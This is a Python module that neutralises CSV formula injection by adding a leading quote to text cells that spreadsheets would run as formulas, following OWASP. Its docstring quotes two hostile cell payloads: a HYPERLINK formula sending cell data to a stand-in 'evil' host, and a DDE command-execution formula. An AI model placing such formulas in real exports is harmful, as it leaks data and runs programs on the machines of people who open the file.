"""Spreadsheet-safe CSV cells (CSV / formula injection, OWASP).

Why: a caption is text someone else wrote, and a spreadsheet opening a CSV runs a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula:
``=HYPERLINK("http://evil/?"&A2, "click")`` leaks data, ``=cmd|' /C calc'!A0`` ran programs in
older Excel. As OWASP recommends, such a text cell gets a leading single quote (``'=1+1``),
which spreadsheets show as text; parquet tables keep the text exactly as written, only the CSV
exports (``derm1m_release.csv``, ``derm1m query --format csv``, ``derm1m annotate --output``)
are neutralised.
"""

from __future__ import annotations

from collections.abc import Iterable

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` when it is text that a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    return [neutralise(v) for v in values]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell neutralised (numbers and nulls untouched)."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(neutralise)
    return out
